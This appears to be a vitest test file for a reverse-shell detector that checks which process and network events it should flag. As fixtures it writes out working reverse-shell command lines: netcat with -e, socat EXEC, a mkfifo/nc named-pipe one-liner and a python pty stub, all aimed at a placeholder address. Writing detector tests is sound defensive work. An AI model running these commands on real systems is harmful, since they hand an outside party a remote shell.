import { describe, expect, it } from 'vitest';
import type { HostEvent, HostProcess, HostProcessWithParents } from '../../../contract/events.ts';
import { reverseShellBehaviour } from './reverse-shell.ts';
import { findingsOf, program, START_MS, starts } from './testing.ts';

const SOCKETS = { standardStreams: { input: 'socket', output: 'socket', error: 'socket' } } as const;
const TERMINAL = { standardStreams: { input: 'terminal', output: 'terminal', error: 'terminal' } } as const;

function connects(process: HostProcessWithParents, remoteAddress = '203.0.113.9'): HostEvent {
  return {
    type: 'network-connection',
    timeMs: START_MS,
    direction: 'outbound',
    protocol: 'tcp',
    localAddress: '192.0.2.2',
    localPort: 40_000,
    remoteAddress,
    remotePort: 4444,
    process,
  };
}

/** The same process, which runs another program now. */
function becomes(process: HostProcess, command: string, more: Partial<HostProcess> = {}): HostProcessWithParents {
  return { ...program(command, [], more), pid: process.pid };
}

const nc = program('/usr/bin/nc.traditional -e /bin/sh 203.0.113.9 4444', ['/usr/bin/bash']);
const python = '/usr/bin/python3.11 -c import socket,os,pty';
const socat = '/usr/bin/socat TCP:203.0.113.9:4444 EXEC:bash,pty,stderr,setsid';

const script = '/usr/bin/dash -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f';
const PIPES = { standardStreams: { input: 'pipe', output: 'pipe', error: 'pipe' } } as const;
const piped = program('/usr/bin/dash -i', [script], PIPES);
const relay = program('/usr/bin/nc.openbsd 203.0.113.9 4444', [script]);

describe('attacks', () => {
  const attacks: readonly [string, readonly HostEvent[]][] = [
    ['bash over /dev/tcp', [connects(program('/usr/bin/bash -i', ['/usr/bin/bash']))]],
    ['nc -e', [starts(nc), connects(nc), starts(becomes(nc, '/usr/bin/dash', SOCKETS), START_MS + 20)]],
    ['python with dup2', [connects(program(python)), starts(program('/bin/sh -i', [python], SOCKETS), START_MS + 30)]],
    [
      'python with pty.spawn',
      [connects(program(python)), starts(program('/bin/bash', [python], TERMINAL), START_MS + 30)],
    ],
    [
      'socat with a terminal',
      [connects(program(socat)), starts(program('/bin/bash -li', [socat], TERMINAL), START_MS + 9)],
    ],
    ['nc behind a named pipe', [starts(piped), connects(relay)]],
    ['nc behind a named pipe, which is quicker', [connects(relay), starts(piped)]],
    ['a shell at a socket of an unknown program', [starts(program('/bin/sh', ['/tmp/.x'], SOCKETS))]],
  ];
  for (const [name, events] of attacks) {
    it(`tells of ${name}`, () => {
      const found = findingsOf(reverseShellBehaviour, events);
      expect(found).toHaveLength(1);
      expect(found[0]).toMatchObject({ kind: 'reverse-shell', severity: expect.stringMatching(/high|critical/) });
      expect(found[0]?.processes?.length).toBeGreaterThan(0);
    });
  }

  it('names the other end', () => {
    const [found] = findingsOf(reverseShellBehaviour, [
      connects(nc),
      starts(becomes(nc, '/bin/sh', SOCKETS), START_MS + 5),
    ]);
    expect(found).toMatchObject({ severity: 'critical', title: 'sh reads its commands from 203.0.113.9 port 4444' });
    expect(found?.attackers).toEqual(['203.0.113.9']);
  });

  it('names the other end of streams whose connection nobody saw begin', () => {
    const streams = (address: string) => ({
      standardStreams: { ...SOCKETS.standardStreams, remote: { address, port: 443 } },
    });
    const [found] = findingsOf(reverseShellBehaviour, [
      starts(program('/bin/sh -i', ['/usr/bin/node app.js'], streams('2001:db8::7'))),
    ]);
    expect(found).toMatchObject({ severity: 'critical', attackers: ['2001:db8::7'], attackerCount: 1 });
    const [here] = findingsOf(reverseShellBehaviour, [starts(program('/bin/sh', [], streams('127.0.0.1')))]);
    expect(here).toMatchObject({ severity: 'high', attackers: [] });
  });
});

describe('what is usual', () => {
  const node = '/usr/share/code/code --type=utility';
  const usual: readonly [string, readonly HostEvent[]][] = [
    ['a terminal', [starts(program('/usr/bin/bash', ['/usr/bin/gnome-terminal'], TERMINAL))]],
    ['an IDE terminal', [connects(program(node)), starts(program('/usr/bin/bash --init-file x', [node], TERMINAL))]],
    ['an IDE that asks for the environment', [starts(program('/bin/bash -i -l -c env', [node], SOCKETS))]],
    ['node with pipes', [starts(program('/bin/sh', ['/usr/bin/node server.js'], SOCKETS))]],
    [
      'ssh',
      [
        starts(program('/bin/bash -c uptime', ['/usr/sbin/sshd -D'], SOCKETS)),
        starts(program('/bin/bash', ['/usr/sbin/sshd -D'], SOCKETS)),
      ],
    ],
    [
      'pip that builds',
      [
        connects(program('/usr/bin/python3.11 -m pip install x')),
        starts(program('/bin/sh -c cc -c x.c', ['/usr/bin/python3.11 -m pip install x'])),
      ],
    ],
    [
      'a script that checks a local port',
      [connects(program('/usr/bin/bash /usr/local/bin/wait-for-it.sh'), '127.0.0.1')],
    ],
    [
      'a script in a pipe that also looks whether a port is open',
      [
        starts(program('/usr/bin/bash', [script], { standardStreams: { input: 'pipe', output: 'file' } })),
        connects(relay),
      ],
    ],
    [
      'a shell long after a connection',
      [connects(program(python)), starts(program('/bin/bash', [python], TERMINAL), START_MS + 60_000)],
    ],
  ];
  for (const [name, events] of usual) {
    it(`is silent about ${name}`, () => expect(findingsOf(reverseShellBehaviour, events)).toEqual([]));
  }
});
